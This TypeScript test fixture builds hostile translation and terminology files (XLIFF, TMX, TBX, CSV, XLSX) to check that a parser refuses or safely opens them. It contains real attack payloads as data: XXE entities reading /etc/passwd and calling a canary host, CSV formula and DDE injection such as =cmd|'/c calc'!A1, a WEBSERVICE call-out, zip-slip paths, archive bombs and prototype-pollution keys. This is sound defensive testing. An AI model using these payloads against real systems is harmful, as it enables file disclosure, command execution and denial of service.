import { arabic, english } from '#tests/fixtures/import/releases.ts'
import { workbook } from '#tests/hostile/files/workbook.ts'
import { type Canary, type HostileFile, hostileFiles, opens, refused } from '#tests/hostile/hostile-file.ts'

const unsafe = refused('XML_UNSAFE')
const damaged = refused('XML_DAMAGED')
const entity = '<!DOCTYPE x [<!ENTITY a "b">]>'
const manyAttributes = Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')

/** XLIFF and TMX that come as the versions of one release. */
export function bilingualFiles({ address, host }: Canary): readonly HostileFile[] {
  const shown = opens([], { shows: english.body, hides: host })
  const xliff =
    (unit: string, prologue = '') =>
    () =>
      `<?xml version="1.0"?>${prologue}<xliff version="1.2"><file source-language="en" target-language="ar"><header><skl><external-file href="http://${host}/a"/></skl></header><body>${unit}</body></file></xliff>`
  const unit = `<trans-unit id="__proto__"><source>${english.body}</source><target>${arabic.body}</target></trans-unit>`
  const whole = xliff(unit)()
  return [
    ...hostileFiles('xliff', 'release.xlf', [
      ['a skeleton from elsewhere', xliff(unit), shown],
      ['entities', xliff(unit, entity), unsafe],
      ['a file as an entity', xliff(unit, '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), unsafe],
      ['a parameter entity', xliff(unit, `<!DOCTYPE x [<!ENTITY % p SYSTEM "${address}/p">%p;]>`), unsafe],
      ['a document type from elsewhere', xliff(unit, `<!DOCTYPE xliff SYSTEM "${address}/x.dtd">`), shown],
      ['an entity after a long comment', xliff(unit, `<!--${'-x'.repeat(40_000)}-->${entity}`), unsafe],
      ['elements 10,000 deep', xliff(`<group>`.repeat(10_000)), damaged],
      ['marks 10,000 deep', xliff(`<trans-unit id="1"><source>${'<g id="1">'.repeat(10_000)}`), damaged],
      ['100,000 attributes', xliff(`<trans-unit ${manyAttributes}/>`), damaged],
      ['cut in the middle', () => whole.slice(0, whole.length / 2), damaged],
      ['no unit', xliff(''), refused('FILE_NO_TEXT')],
    ]),
    ...hostileFiles('tmx of versions', 'release.tmx', [
      ['entities', () => tmx(pair, entity), unsafe],
      ['a document type from elsewhere', () => tmx(pair, `<!DOCTYPE tmx SYSTEM "http://${host}/tmx14.dtd">`), shown],
      [
        'a language of the prototype',
        () =>
          tmx(
            `<tu><tuv xml:lang="en"><seg>${english.body}</seg></tuv><tuv xml:lang="__proto__"><seg>x</seg></tuv></tu>`,
          ),
        opens([], { shows: english.body }),
      ],
      ['cut in the middle', () => tmx(pair).slice(0, 150), damaged],
    ]),
  ]
}

const pair = `<tu><tuv xml:lang="en"><seg>${english.body}</seg></tuv><tuv xml:lang="ar"><seg>${arabic.body}</seg></tuv></tu>`
function tmx(body: string, prologue = ''): string {
  return `<?xml version="1.0"?>${prologue}<tmx version="1.4"><header srclang="en"/><body>${body}</body></tmx>`
}

/** TMX that is to be taken into a memory. */
export function memoryFiles({ address, host }: Canary): readonly HostileFile[] {
  const shown = opens([], { shows: english.body, hides: host })
  const wrong = refused('TMX_UNSAFE')
  const broken = refused('TMX_DAMAGED')
  const whole = tmx(pair)
  return hostileFiles('memory', 'memory.tmx', [
    ['a document type from elsewhere', () => tmx(pair, `<!DOCTYPE tmx SYSTEM "${address}/tmx14.dtd">`), shown],
    ['entities', () => tmx(pair, entity), wrong],
    ['a file as an entity', () => tmx(pair, '<!DOCTYPE tmx [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), wrong],
    ['a parameter entity', () => tmx(pair, `<!DOCTYPE tmx [<!ENTITY % p SYSTEM "${address}/p">%p;]>`), wrong],
    ['elements 10,000 deep', () => tmx('<tu>'.repeat(10_000)), wrong],
    ['100,000 attributes', () => tmx(`<tu ${manyAttributes}/>`), wrong],
    ['five mebibytes in one segment', () => tmx(`<tu><tuv xml:lang="en"><seg>${'word '.repeat(1024 * 1024)}`), wrong],
    ['five mebibytes in one attribute', () => tmx(`<tu x="${'word '.repeat(1024 * 1024)}"/>`), wrong],
    ['another root', () => `<?xml version="1.0"?><xliff/>`, refused('TMX_INVALID')],
    ['a lone surrogate', () => tmx(pair.replace('<seg>', '<seg>&#xD800;')), broken],
    ['cut in the middle', () => whole.slice(0, whole.length / 2), broken],
    ['no byte at all', () => '', refused('FILE_EMPTY')],
    [
      'UTF-16 cut within a letter',
      () => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(whole, 'utf16le').subarray(0, -1)]),
      refused('TEXT_ENCODING_UNKNOWN'),
    ],
  ])
}

/** Terminology in TBX. */
export function termFiles({ address, host }: Canary): readonly HostileFile[] {
  const tbx =
    (body: string, prologue = '') =>
    () =>
      `<?xml version="1.0"?>${prologue}<tbx type="TBX-Basic" style="dct" xml:lang="en"><text><body>${body}</body></text></tbx>`
  const concept = `<conceptEntry id="__proto__"><langSec xml:lang="en"><termSec><term>harbour</term></termSec></langSec><langSec xml:lang="fr"><termSec><term>port</term></termSec></langSec></conceptEntry>`
  const whole = tbx(concept)()
  return hostileFiles('tbx', 'terms.tbx', [
    [
      'a document type from elsewhere',
      tbx(concept, `<!DOCTYPE tbx SYSTEM "http://${host}/tbx.dtd">`),
      opens([], { shows: 'harbour' }),
    ],
    ['entities', tbx(concept, entity), unsafe],
    ['a parameter entity', tbx(concept, `<!DOCTYPE x [<!ENTITY % p SYSTEM "${address}/p">%p;]>`), unsafe],
    ['elements 10,000 deep', tbx('<note>'.repeat(10_000)), unsafe],
    ['another root', () => '<?xml version="1.0"?><html/>', refused('GLOSSARY_INVALID')],
    [
      'a language of the prototype',
      tbx(concept.replace('"fr"', '"__proto__"')),
      opens(['unknown-language'], { shows: 'harbour' }),
    ],
    ['cut in the middle', () => whole.slice(0, whole.length / 2), damaged],
  ])
}

/** Terminology in tables. */
export function tableFiles({ host, fileName, address }: Canary): readonly HostileFile[] {
  const shown = opens([], { shows: 'harbour' })
  return [
    ...hostileFiles('csv', 'terms.csv', [
      ['formulas', () => `en,fr\nharbour,"=HYPERLINK(""http://${host}"")"\n=cmd|'/c calc'!A1,port\n`, shown],
      ['columns of the prototype', () => '__proto__,constructor\nharbour,port\n', shown],
      ['100,000 columns', () => `${'en,'.repeat(100_000)}\nharbour,port\n`, refused('FILE_DAMAGED')],
      [
        'a quotation that never ends',
        () => 'en,fr\nharbour,"port\n',
        opens(['quote-not-closed'], { shows: 'harbour' }),
      ],
      ['a mebibyte of quotation marks', () => `en,fr\nharbour,${'"'.repeat(1024 * 1024)}\n`, shown],
      ['a million empty columns', () => `en,fr\nharbour${','.repeat(1_000_000)}\n`, refused('FILE_DAMAGED')],
    ]),
    ...hostileFiles('xlsx', 'terms.xlsx', [
      ['an honest one', () => workbook(), shown],
      [
        'a bomb',
        () => workbook({ more: [{ name: 'xl/media/1.png', content: new Uint8Array(40 * 1024 * 1024) }] }),
        refused('ARCHIVE_BOMB'),
      ],
      [
        'a name that climbs',
        () => workbook({ more: [{ name: `../../../tmp/${fileName}`, content: 'x' }] }),
        refused('ARCHIVE_UNSAFE'),
      ],
      ['entities', () => workbook({ prologue: '<!DOCTYPE x [<!ENTITY a "port">]>', second: '&a;' }), unsafe],
      [
        'an address as an entity',
        () => workbook({ prologue: `<!DOCTYPE x [<!ENTITY a SYSTEM "${address}/x">]>`, second: '&a;' }),
        unsafe,
      ],
      [
        'a row far below',
        () => workbook({ rows: '<row r="99999999999"><c r="A99999999999" t="inlineStr"><is><t>x</t></is></c></row>' }),
        refused('FILE_DAMAGED'),
      ],
      [
        'a column far out',
        () => workbook({ rows: '<row r="2"><c r="ZZZZZZZ2" t="inlineStr"><is><t>x</t></is></c></row>' }),
        refused('FILE_DAMAGED'),
      ],
      [
        'a row below all rows',
        () => workbook({ rows: '<row r="-5"><c r="A-5"><v>1</v></c></row>' }),
        refused('FILE_DAMAGED'),
      ],
      ['a place of two billion cells', () => workbook({ head: '<dimension ref="A1:XFD1048576"/>' }), shown],
      [
        'cells joined without end',
        () => workbook({ tail: '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>' }),
        shown,
      ],
      [
        'a string that is not there',
        () => workbook({ rows: '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>' }),
        shown,
      ],
      [
        'a formula',
        () => workbook({ rows: `<row r="2"><c r="A2"><f>WEBSERVICE("http://${host}")</f><v>port</v></c></row>` }),
        opens([], { shows: 'harbour', hides: host }),
      ],
      [
        'a container with a password',
        () =>
          Buffer.concat([
            Buffer.from('d0cf11e0a1b11ae1', 'hex'),
            Buffer.alloc(504),
            Buffer.from('EncryptedPackage', 'utf16le'),
          ]),
        refused('FILE_PASSWORD_PROTECTED'),
      ],
      ['elements 100,000 deep', () => workbook({ rows: '<row>'.repeat(100_000) }), shown],
      ['cut in the middle', () => workbook().subarray(0, 500), refused('ARCHIVE_DAMAGED')],
    ]),
  ]
}
